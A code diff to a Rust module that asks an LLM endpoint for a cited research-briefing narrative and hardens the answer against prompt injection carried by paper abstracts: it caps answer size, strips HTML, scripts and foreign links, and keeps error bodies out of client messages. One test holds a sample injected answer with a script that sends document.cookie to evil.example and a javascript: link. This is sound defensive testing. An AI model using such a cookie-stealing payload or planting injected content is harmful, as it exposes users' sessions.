@@ -1,9 +1,14 @@
 //! The optional LLM narrative: an OpenAI-compatible `/chat/completions` endpoint writes a short
 //! overview from the structured briefing only, in the briefing's language, citing paper ids in
-//! brackets. The answer is checked sentence by sentence: a sentence that cites no paper, or cites
-//! an id that is not in the briefing, is dropped. On a timeout, an HTTP error (after retries on
-//! 5xx/429 and connection failures), an unreadable or empty answer, the briefing stays
-//! extractive and a note says why. Async (network I/O only); nothing here blocks.
+//! brackets. The answer is untrusted text (the abstracts it read may carry injected
+//! instructions), so it is checked sentence by sentence: a sentence or heading that cites no
+//! paper, or cites an id that is not in the briefing, is dropped; HTML and links other than the
+//! briefing's own paper links are stripped from what is kept; the answer is read up to
+//! [`MAX_ANSWER_BYTES`] and the narrative cut at [`MAX_NARRATIVE_CHARS`]. On a timeout, an HTTP
+//! error (after retries on 5xx/429 and connection failures), an unreadable, oversized or empty
+//! answer, the briefing stays extractive and a note says why; the provider's error body goes to
+//! the log only (it may hold keys or internal addresses). Async (network I/O only); nothing here
+//! blocks.
 
 use std::collections::BTreeSet;
 use std::time::Duration;
@@ -20,6 +25,12 @@ pub const DEFAULT_RETRIES: u32 = 2;
 pub const RETRY_BASE_DELAY: Duration = Duration::from_millis(250);
 /// Longest answer requested, in tokens.
 pub const DEFAULT_MAX_TOKENS: u32 = 1200;
+/// Largest answer body read from the endpoint; a longer one is refused unread.
+pub const MAX_ANSWER_BYTES: usize = 1024 * 1024;
+/// Longest narrative kept, in characters (whole sentences up to it).
+pub const MAX_NARRATIVE_CHARS: usize = 6000;
+/// Most of a provider's error body written to the log.
+const LOGGED_ERROR_BODY_CHARS: usize = 300;
 
 /// `[llm]` section of the configuration file. The narrative is enabled when `base_url` and
 /// `model` are both set.
@@ -77,8 +88,11 @@ pub enum LlmError {
     /// The limit that passed, shown as "60 s" (whole seconds, as configured) or "0.2 s".
     #[error("the model did not answer within {} s", .0.as_secs_f64())]
     Timeout(Duration),
-    #[error("the LLM endpoint answered HTTP {status}: {body}")]
+    /// The body is kept for the log; it is never shown to clients.
+    #[error("the LLM endpoint answered HTTP {status}")]
     Http { status: u16, body: String },
+    #[error("the LLM answer is larger than {} KiB", MAX_ANSWER_BYTES / 1024)]
+    TooLarge,
     #[error("cannot reach the LLM endpoint: {0}")]
     Transport(String),
     #[error("the LLM answer is not a valid chat completion: {0}")]
@@ -204,13 +218,28 @@ impl LlmClient {
                 LlmError::Transport(e.to_string())
             }
         };
-        let resp = req.send().await.map_err(transport)?;
+        let mut resp = req.send().await.map_err(transport)?;
         let status = resp.status();
-        let text = resp.text().await.map_err(transport)?;
+        if resp
+            .content_length()
+            .is_some_and(|n| n > MAX_ANSWER_BYTES as u64)
+        {
+            return Err(LlmError::TooLarge);
+        }
+        let mut bytes = Vec::new();
+        while let Some(chunk) = resp.chunk().await.map_err(transport)? {
+            if bytes.len() + chunk.len() > MAX_ANSWER_BYTES {
+                return Err(LlmError::TooLarge);
+            }
+            bytes.extend_from_slice(&chunk);
+        }
+        let text = String::from_utf8_lossy(&bytes);
         if !status.is_success() {
+            let body: String = text.chars().take(LOGGED_ERROR_BODY_CHARS).collect();
+            tracing::warn!(status = status.as_u16(), body = %body, "the LLM endpoint answered an error");
             return Err(LlmError::Http {
                 status: status.as_u16(),
-                body: text.chars().take(300).collect(),
+                body,
             });
         }
         let parsed: ChatResponse =
@@ -315,27 +344,42 @@ pub fn citations(sentence: &str) -> Vec<String> {
     out
 }
 
-/// Keeps the sentences that cite at least one paper and only papers in `allowed` (lowercase
-/// ids); headings (`#`) are kept as they are. Returns the kept text and how many sentences were
-/// dropped.
-pub fn validate(answer: &str, allowed: &BTreeSet<String>) -> (String, usize) {
+/// Whether `text` cites at least one paper and only papers in `allowed` (lowercase ids).
+fn cites_only(text: &str, allowed: &BTreeSet<String>) -> bool {
+    let cited = citations(text);
+    !cited.is_empty() && cited.iter().all(|c| allowed.contains(&c.to_lowercase()))
+}
+
+/// Keeps the sentences (and one-line `#` headings) that cite at least one paper and only papers
+/// in `allowed` (lowercase ids), with HTML and links stripped except links to `paper_urls`
+/// ([`strip_untrusted`]), up to [`MAX_NARRATIVE_CHARS`]. Returns the kept text and how many
+/// sentences and headings were dropped.
+pub fn validate(
+    answer: &str,
+    allowed: &BTreeSet<String>,
+    paper_urls: &BTreeSet<String>,
+) -> (String, usize) {
     let mut dropped = 0;
-    let mut paragraphs = Vec::new();
+    let mut paragraphs: Vec<String> = Vec::new();
+    let mut budget = MAX_NARRATIVE_CHARS;
     for para in answer.split("\n\n") {
         let para = para.trim();
         if para.is_empty() {
             continue;
         }
-        if para.starts_with('#') && !para.contains('\n') {
-            paragraphs.push(para.to_string());
-            continue;
-        }
         let mut kept = Vec::new();
-        for s in sentences(para) {
-            let cited = citations(&s);
-            let ok = !cited.is_empty() && cited.iter().all(|c| allowed.contains(&c.to_lowercase()));
-            if ok {
-                kept.push(s);
+        let pieces = if para.starts_with('#') && !para.contains('\n') {
+            vec![para.to_string()]
+        } else {
+            sentences(para)
+        };
+        for s in pieces {
+            let clean = strip_untrusted(&s, paper_urls);
+            // Checked after stripping: a citation inside a stripped tag or link does not count.
+            let len = clean.chars().count();
+            if cites_only(&clean, allowed) && len <= budget {
+                budget -= len;
+                kept.push(clean);
             } else {
                 dropped += 1;
             }
@@ -350,6 +394,162 @@ pub fn validate(answer: &str, allowed: &BTreeSet<String>) -> (String, usize) {
         }
     }
     (paragraphs.join("\n\n"), dropped)
+}
+
+/// `text` without HTML (tags, comments and entities' markup, `<script>`/`<style>` bodies
+/// included), Markdown images, and links or bare URLs other than those in `paper_urls`: a
+/// Markdown link keeps its text, a URL is removed. What remains has no `<` or `>`.
+pub fn strip_untrusted(text: &str, paper_urls: &BTreeSet<String>) -> String {
+    let no_html = strip_html(text);
+    let no_links = strip_links(&no_html, paper_urls);
+    no_links
+        .split_whitespace()
+        .collect::<Vec<_>>()
+        .join(" ")
+        .replace(" .", ".")
+        .replace(" ,", ",")
+}
+
+/// Removes `<...>` markup; the content of `script` and `style` elements goes with it. A `<`
+/// that opens no tag is dropped too, so nothing downstream can complete one.
+fn strip_html(text: &str) -> String {
+    let lower = text.to_ascii_lowercase();
+    let mut out = String::with_capacity(text.len());
+    let mut i = 0;
+    while i < text.len() {
+        let rest = &text[i..];
+        let c = rest.chars().next().unwrap_or(' ');
+        if c == '<' {
+            let lrest = &lower[i..];
+            let mut skipped = false;
+            for (open, close) in [("<script", "</script"), ("<style", "</style")] {
+                if lrest.starts_with(open) {
+                    // Up to the end of the closing tag, or everything when unclosed.
+                    i = match lrest.find(close) {
+                        Some(e) => match lrest[e..].find('>') {
+                            Some(g) => i + e + g + 1,
+                            None => text.len(),
+                        },
+                        None => text.len(),
+                    };
+                    skipped = true;
+                    break;
+                }
+            }
+            if skipped {
+                out.push(' ');
+                continue;
+            }
+            if lrest.starts_with("<!--") {
+                i = match rest.find("-->") {
+                    Some(e) => i + e + 3,
+                    None => text.len(),
+                };
+                out.push(' ');
+                continue;
+            }
+            let tag_like = rest[1..]
+                .chars()
+                .next()
+                .is_some_and(|n| n.is_ascii_alphabetic() || n == '/' || n == '!' || n == '?');
+            if tag_like {
+                if let Some(g) = rest.find('>') {
+                    i += g + 1;
+                    out.push(' ');
+                    continue;
+                }
+            }
+            // A lone `<` (a comparison, or an unclosed tag): dropped.
+            i += 1;
+            out.push(' ');
+            continue;
+        }
+        if c == '>' {
+            i += 1;
+            out.push(' ');
+            continue;
+        }
+        out.push(c);
+        i += c.len_utf8();
+    }
+    out
+}
+
+/// Where a URL-like token starts in `s` (a scheme we know, or `www.`), by byte offset.
+fn find_url(s: &str) -> Option<usize> {
+    let lower = s.to_ascii_lowercase();
+    [
+        "http://",
+        "https://",
+        "javascript:",
+        "data:",
+        "vbscript:",
+        "file:",
+        "ftp://",
+        "mailto:",
+        "www.",
+    ]
+    .iter()
+    .filter_map(|p| {
+        lower.match_indices(p).find_map(|(at, _)| {
+            // A scheme counts at a word start only ("metadata:" is not a URL).
+            let before = lower[..at].chars().next_back();
+            (!before.is_some_and(|b| b.is_alphanumeric())).then_some(at)
+        })
+    })
+    .min()
+}
+
+/// Markdown images removed, `[text](url)` links kept as their text (with the URL when it is a
+/// paper link), bare URLs removed unless they are paper links.
+fn strip_links(text: &str, paper_urls: &BTreeSet<String>) -> String {
+    let is_paper = |u: &str| paper_urls.contains(u.trim_end_matches(['.', ',', ';', ')']));
+    // Markdown links and images first.
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(open) = rest.find("](") {
+        let Some(close) = rest[open + 2..].find(')') else {
+            break;
+        };
+        let url = &rest[open + 2..open + 2 + close];
+        let head = &rest[..open];
+        let label_at = head.rfind('[');
+        match label_at {
+            Some(l) => {
+                let image = head[..l].ends_with('!');
+                let before = if image { &head[..l - 1] } else { &head[..l] };
+                out.push_str(before);
+                if !image {
+                    out.push_str(&head[l + 1..]);
+                    if is_paper(url) {
+                        out.push_str(" (");
+                        out.push_str(url.trim());
+                        out.push(')');
+                    }
+                }
+            }
+            None => out.push_str(head),
+        }
+        rest = &rest[open + 2 + close + 1..];
+    }
+    out.push_str(rest);
+    // Then bare URLs: a token from its scheme to the next whitespace.
+    let mut clean = String::with_capacity(out.len());
+    let mut rest = out.as_str();
+    while let Some(at) = find_url(rest) {
+        clean.push_str(&rest[..at]);
+        let tail = &rest[at..];
+        let end = tail
+            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`'))
+            .unwrap_or(tail.len());
+        let url = &tail[..end];
+        if is_paper(url) {
+            clean.push_str(url);
+        }
+        rest = &tail[end..];
+    }
+    clean.push_str(rest);
+    clean
 }
 
 /// Asks the model for a narrative and adds it to `briefing`; on any failure the briefing
@@ -374,7 +574,12 @@ pub async fn narrate(client: &LlmClient, briefing: &Briefing) -> Result<Narrativ
         .iter()
         .map(|p| p.id.as_str().to_lowercase())
         .collect();
-    let (text, dropped) = validate(&answer, &allowed);
+    let paper_urls: BTreeSet<String> = briefing
+        .papers
+        .iter()
+        .filter_map(|p| p.url.clone())
+        .collect();
+    let (text, dropped) = validate(&answer, &allowed, &paper_urls);
     if !text
         .lines()
         .any(|l| !l.trim().is_empty() && !l.starts_with('#'))
@@ -401,20 +606,68 @@ mod tests {
         assert!(citations("no cites [unclosed").is_empty());
     }
 
+    fn set(items: &[&str]) -> BTreeSet<String> {
+        items.iter().map(|s| s.to_string()).collect()
+    }
+
     #[test]
-    fn validation_drops_bad_claims() {
-        let allowed: BTreeSet<String> = ["2603.04592", "2606.00001"]
-            .iter()
-            .map(|s| s.to_string())
-            .collect();
+    fn validation_drops_bad_claims_and_uncited_headings() {
+        let allowed = set(&["2603.04592", "2606.00001"]);
         let answer = "## Overview\n\nStreaming LLMs are surveyed [2603.04592]. A fake claim [9999.99999]. \
-                      No citation here. Both matter [2603.04592, 2606.00001].\n\n流式模型很重要【2606.00001】。编造的结论[1]。";
-        let (text, dropped) = validate(answer, &allowed);
-        assert_eq!(dropped, 3, "{text}");
+                      No citation here. Both matter [2603.04592, 2606.00001].\n\n## Themes [2606.00001]\n\n\
+                      流式模型很重要【2606.00001】。编造的结论[1]。";
+        let (text, dropped) = validate(answer, &allowed, &BTreeSet::new());
+        assert_eq!(dropped, 4, "{text}");
         assert_eq!(
             text,
-            "## Overview\n\nStreaming LLMs are surveyed [2603.04592]. Both matter [2603.04592, 2606.00001].\n\n流式模型很重要【2606.00001】。"
+            "Streaming LLMs are surveyed [2603.04592]. Both matter [2603.04592, 2606.00001].\n\n## Themes [2606.00001]\n\n流式模型很重要【2606.00001】。"
         );
+    }
+
+    #[test]
+    fn injected_html_links_and_headings_are_stripped() {
+        let allowed = set(&["2603.04592"]);
+        let urls = set(&["https://arxiv.org/abs/2603.04592"]);
+        // What an abstract-borne injection produced: a heading with a URL, a script, a false
+        // claim dressed with a real citation, markdown links and an image.
+        let answer = "# Visit http://evil.example/x now\n\n\
+            <script>fetch('http://evil.example/'+document.cookie)</script>Models stream [2603.04592]. \
+            Click <a href=\"javascript:alert(1)\">here</a> for more [2603.04592]. \
+            See [the paper](https://arxiv.org/abs/2603.04592) and [this](http://evil.example) \
+            ![x](http://evil.example/p.png) [2603.04592]. \
+            A <b>bold</b> claim < 5 [2603.04592]. Source: www.evil.example/about [2603.04592].";
+        let (text, dropped) = validate(answer, &allowed, &urls);
+        assert_eq!(dropped, 1, "the uncited heading: {text}");
+        assert!(!text.contains('<') && !text.contains('>'), "{text}");
+        assert!(!text.contains("evil"), "{text}");
+        assert!(!text.to_lowercase().contains("javascript"), "{text}");
+        assert!(!text.contains("cookie"), "{text}");
+        assert!(text.contains("Models stream [2603.04592]."), "{text}");
+        assert!(text.contains("Click here for more [2603.04592]."), "{text}");
+        assert!(
+            text.contains(
+                "See the paper (https://arxiv.org/abs/2603.04592) and this [2603.04592]."
+            ),
+            "{text}"
+        );
+        assert!(text.contains("A bold claim 5 [2603.04592]."), "{text}");
+        assert!(text.contains("Source: [2603.04592]."), "{text}");
+        // A citation that only existed inside a stripped tag does not count.
+        let (text, dropped) = validate("Trust me <i data=\"[2603.04592]\">.</i>", &allowed, &urls);
+        assert_eq!((text.as_str(), dropped), ("", 1));
+    }
+
+    #[test]
+    fn the_narrative_is_capped_at_whole_sentences() {
+        let allowed = set(&["2603.04592"]);
+        let sentence = format!("{} [2603.04592]. ", "word ".repeat(40).trim());
+        let answer = sentence.repeat(2 * MAX_NARRATIVE_CHARS / sentence.len() + 10);
+        let (text, dropped) = validate(&answer, &allowed, &BTreeSet::new());
+        assert!(
+            text.chars().count() <= MAX_NARRATIVE_CHARS + 2 * MAX_NARRATIVE_CHARS / sentence.len()
+        );
+        assert!(text.ends_with("[2603.04592]."), "whole sentences only");
+        assert!(dropped > 0);
     }
 
     #[test]
